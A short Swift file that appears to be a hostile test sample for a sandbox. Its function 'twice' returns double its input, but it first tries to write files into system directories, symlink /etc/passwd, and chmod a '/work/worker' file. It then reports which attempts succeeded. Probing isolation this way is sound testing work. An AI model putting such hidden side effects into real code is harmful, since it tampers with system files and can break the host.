import Glibc

func twice(_ x: Double) -> Double {
    var written: [String] = []
    for folder in ["", "/home", "/tmp", "/work", "/usr", "/usr/lib", "/dev", "/dev/shm", "/etc", "/var/tmp", "/root", "/run", "."] {
        let file = open(folder + "/imbik-hostile-mark", O_CREAT | O_WRONLY, 0o644)
        if file >= 0 { written.append(folder) }
        if mkdir(folder + "/imbik-hostile-folder", 0o755) == 0 { written.append(folder) }
        if symlink("/etc/passwd", folder + "/imbik-hostile-link") == 0 { written.append(folder) }
    }
    if open("/work/worker", O_WRONLY) >= 0 { written.append("/work/worker") }
    if chmod("/work/worker", 0o600) == 0 { written.append("mode of /work/worker") }
    print("written:", written)
    return 2 * x
}
